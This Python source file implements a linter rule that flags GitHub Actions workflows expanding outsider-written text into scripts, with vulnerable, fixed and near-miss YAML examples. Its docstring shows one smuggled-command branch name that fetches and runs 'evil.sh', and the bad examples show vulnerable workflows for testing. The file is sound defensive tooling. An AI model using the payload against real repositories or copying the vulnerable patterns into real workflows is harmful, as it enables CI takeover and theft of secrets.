"""A title, a branch name or a comment that is pasted into a script runs there as code.

GitHub replaces `${{ }}` in a `run:` before any shell sees it, so quotes in the script protect nothing: a pull
request from a branch called `x";curl${IFS}evil.sh|sh;"` takes the job over with all its secrets and its token.
The way out is a variable: put the expression in the step's `env` and write `"$TITLE"` in the script, with
double quotes. The shell then reads it as text, whatever it holds.

Free text of outsiders is meant: titles, bodies, commit messages, names of people and of branches in forks, and
objects that hold them, written out with `toJSON`. Comments in a script count, a line break ends them. So does
`${{ env.NAME }}`, if the variable holds such text.

Left alone: what cannot carry code (numbers, commit hashes, logins, labels, urls, names of repositories), texts
of people with write access (`github.ref_name`, releases, inputs of a manual run), comparisons and
`contains(…)`, which only give true or false, objects without `toJSON`, and texts of an event that does not
start the workflow.
"""

from collections.abc import Iterator

from ...expressions import Expr, Expression, Property, Variable, find_expressions
from ...expressions.taint import attacker_controlled, outside_text, values
from ...rule import Problem, Rule, Severity, example
from ...tree import Scalar
from ...workflow import Document, Step, Workflow


def check(document: Document) -> Iterator[Problem]:
    """Report each expression in a script that gives text which outsiders write."""
    sources = Sources(starting_events(document))
    for step in document.steps():
        for expression in find_expressions(step.run) if step.run else ():
            if source := sources.of(expression, step):
                yield Problem(expression.span, f"{source}, which outsiders write, is expanded into the script")


def starting_events(document: Document) -> tuple[str, ...] | None:
    """The events that start the workflow; None where they are not known, as in an action."""
    if not isinstance(document, Workflow):
        return None
    return tuple(event.name for event in document.triggers) or None


class Sources:
    """Where expressions take text of outsiders from. Keeps what it learnt of `env` values, which steps share."""

    def __init__(self, events: tuple[str, ...] | None) -> None:
        self.events = events
        self.known: dict[Scalar, tuple[str | None, tuple[str, ...]]] = {}

    def of(self, expression: Expression, step: Step) -> str | None:
        """The first text of outsiders that an expression gives, as its path and how it comes there."""
        direct, names = self.read(expression)
        if direct:
            return direct
        seen: set[str] = set()
        pending = [(name, name) for name in names]
        while pending:
            first, name = pending.pop()
            value = None if name in seen else step.env(name)
            seen.add(name)
            if value is None:
                continue
            source, further = self.of_value(value)
            if source:
                return f"{source} (through env.{first})"
            pending += ((first, other) for other in further if other not in seen)
        return None

    def of_value(self, value: Scalar) -> tuple[str | None, tuple[str, ...]]:
        """The same of an `env` value, without the variables it names, which come second."""
        if value not in self.known:
            read = [self.read(expression) for expression in find_expressions(value)]
            source = next((source for source, _ in read if source), None)
            self.known[value] = source, tuple(dict.fromkeys(name for _, names in read for name in names))
        return self.known[value]

    def read(self, expression: Expression) -> tuple[str | None, tuple[str, ...]]:
        """The text of outsiders that stands in an expression itself, and the variables it gives the text of."""
        tree = expression.tree
        if tree is None:
            return None, ()
        found = next(outside_text(tree, self.events), None)
        if found is None:
            return None, tuple(variables(tree))
        return found.text if attacker_controlled(found.path) else f"text in {found.text}", ()


def variables(tree: Expr) -> Iterator[str]:
    """The names of the environment variables that an expression can take its text from."""
    for node, _ in values(tree):
        match node:
            case Property(target=Variable(name=context), name=name) if context.lower() == "env":
                yield name


RULE = Rule(
    id="script-injection",
    summary="text of outsiders in a script",
    severity=Severity.ERROR,
    why=__doc__,
    check=check,
    hints=("github.event", "github.head_ref", "github[", "github.*", "tojson(github"),
    aliases=(
        "zizmor:template-injection",
        "poutine:injection",
        "octoscan:expression-injection",
        "ades:ADES100",
        "codeql:actions/code-injection",
    ),
    references=(
        "https://docs.github.com/actions/concepts/security/script-injections",
        "https://docs.github.com/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
    ),
    examples=(
        example(
            bad="""
            on:
              issues:
                types: [opened]
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: |
                      # about ${{ github.event.issue.title }}  # <--
                      echo "${{ github.event.issue.number }}: ${{ github.event.issue['title'] }}"  # <--
                  - env:
                      BODY: ${{ github.event.issue.body }}
                    run: echo "${{ env.BODY }}"  # <--
                  - shell: python
                    run: event = ${{ toJSON(github.event) }}  # <--
            """,
            good="""
            on:
              issues:
                types: [opened]
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - env:
                      TITLE: ${{ github.event.issue.title }}
                    run: |
                      echo "${{ github.event.issue.number }}: $TITLE"
                  - env:
                      BODY: ${{ github.event.issue.body }}
                    run: echo "$BODY"
                  - shell: python
                    run: |
                      import json, os, pathlib
                      event = json.loads(pathlib.Path(os.environ["GITHUB_EVENT_PATH"]).read_text())
            """,
            near=(
                """
                on: [issues, issue_comment]
                jobs:
                  label:
                    if: contains(github.event.issue.title, 'urgent')
                    runs-on: ubuntu-24.04
                    steps:
                      - run: |
                          echo ${{ contains(github.event.issue.body, 'crash') && 'bug' || 'other' }}
                          echo ${{ github.event.comment.body == '/retest' }} ${{ !github.event.issue.body }}
                          echo ${{ github.event.issue.user.login }} ${{ join(github.event.issue.labels.*.name) }}
                          echo ${{ github.event.issue }} ${{ hashFiles(github.event.issue.title) }}
                          echo '{{ github.event.issue.title }}'
                """,
                """
                on: [workflow_dispatch, schedule]
                jobs:
                  report:
                    runs-on: ubuntu-24.04
                    steps:
                      - run: echo "${{ github.event.issue.title }} ${{ github.head_ref || github.ref_name }}"
                """,
            ),
        ),
        example(
            bad="""
            on: [push, pull_request_target]
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
                  - run: git switch "${{ github.head_ref || github.ref_name }}"  # <--
                  - run: >-
                      notify
                      --text '${{ github.event.head_commit.message }}'  # <--
                      --all '${{ join(github.event.commits.*.author.name, ' ') }}'  # <--
            """,
            good="""
            on: [push, pull_request_target]
            jobs:
              build:
                runs-on: ubuntu-24.04
                env:
                  BRANCH: ${{ github.head_ref || github.ref_name }}
                steps:
                  - run: git switch "$BRANCH"
                  - run: notify --commit ${{ github.event.head_commit.id || github.event.pull_request.head.sha }}
            """,
            near=(
                """
                on: [push, pull_request_target]
                jobs:
                  build:
                    runs-on: ubuntu-24.04
                    steps:
                      - run: echo "${{ github.ref_name }} ${{ github.head_ref && 'pull request' || 'push' }}"
                      - run: echo "${{ case(github.head_ref == 'main', 'yes', 'no') }} ${{ github.sha }}"
                      - uses: some/notifier@3df4ab11eba7bda6032a0b82a6bb43b11571feac
                        with:
                          text: ${{ github.event.head_commit.message }}
                """,
            ),
        ),
        example(
            path="greet/action.yml",
            bad="""
            name: Greet
            description: Answer a comment
            runs:
              using: composite
              steps:
                - shell: bash
                  run: reply "${{ case(github.event.comment.id > 0, github.event.comment.body, 'none') }}"  # <--
            """,
            good="""
            name: Greet
            description: Answer a comment
            runs:
              using: composite
              steps:
                - shell: bash
                  env:
                    BODY: ${{ github.event.comment.body }}
                  run: reply "$BODY"
            """,
        ),
    ),
)
